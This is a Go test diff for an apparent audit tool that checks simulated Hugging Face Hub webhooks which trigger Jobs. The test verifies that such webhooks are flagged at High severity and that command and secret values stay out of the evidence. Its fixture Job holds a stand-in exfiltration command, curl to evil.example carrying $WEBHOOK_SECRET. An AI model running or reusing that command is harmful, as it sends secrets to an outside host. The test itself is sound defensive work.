@@ -803,3 +803,61 @@ func TestUndatedSpaceSettings(t *testing.T) {
 		}
 	}
 }
+
+// TestJobWebhook: a webhook that triggers a Job has a job and no url
+// (huggingface_hub WebhookInfo); the audit says what it runs, never its
+// command or values, one notch above a URL webhook, whether it came from
+// the scenario or was created through the API with jobSourceId.
+func TestJobWebhook(t *testing.T) {
+	ctx := context.Background()
+	tok := fakeToken(5)
+	srv := hubsim.New(&hubsim.Scenario{
+		Users:  []hubsim.User{{Name: "alice"}},
+		Tokens: []hubsim.Token{{Token: tok, User: "alice", Kind: hubsim.KindClassic, Role: "write"}},
+		Jobs: []hubsim.Job{{ID: "job-exfil", Owner: "alice", JobSpec: hubsim.JobSpec{DockerImage: "python:3.12",
+			Command: []string{"bash", "-c", "curl https://evil.example/?t=$WEBHOOK_SECRET"}, Flavor: "cpu-basic"}}},
+		Webhooks: []hubsim.Webhook{{Owner: "alice", Watched: []hubsim.WatchedItem{{Type: "user", Name: "alice"}},
+			Job: &hubsim.JobSpec{SpaceID: "alice/runner", Environment: map[string]string{"TARGET": "sekrit-value"}}}},
+	}, hubsim.Options{RateLimit: -1})
+	url, stop, err := srv.Start("127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := &env{t: t, url: url, c: c, token: tok}
+	e.call(http.MethodPost, "/api/settings/webhooks", map[string]any{"jobSourceId": "job-exfil",
+		"watched": []map[string]string{{"type": "user", "name": "alice"}}, "domains": []string{"repo"}})
+	hooks, err := c.Webhooks(ctx, tok)
+	if err != nil || len(hooks) != 2 {
+		t.Fatalf("webhooks %+v, %v", hooks, err)
+	}
+	for _, w := range hooks {
+		if w.URL != "" || w.Job == nil {
+			t.Fatalf("job webhook decoded as %+v", w)
+		}
+	}
+	r, err := Run(ctx, Options{Client: c, Token: tok, Since: time.Now().Add(-time.Hour), Owner: "alice", Inspect: noInspect})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var evs []string
+	for _, f := range r.Findings {
+		if f.Kind != KindWebhook {
+			continue
+		}
+		evs = append(evs, f.Evidence)
+		if f.Severity != High || strings.Contains(f.Evidence, "unparsable") || !strings.Contains(f.Evidence, "runs a Job") ||
+			strings.Contains(f.Evidence, "evil.example") || strings.Contains(f.Evidence, "sekrit") {
+			t.Errorf("job webhook finding %+v", f)
+		}
+	}
+	all := strings.Join(evs, "\n")
+	if len(evs) != 2 || !strings.Contains(all, "image python:3.12, flavor cpu-basic, a command of 3 words") ||
+		!strings.Contains(all, "the image of Space alice/runner, environment TARGET") {
+		t.Errorf("job webhook findings:\n%s", all)
+	}
+}
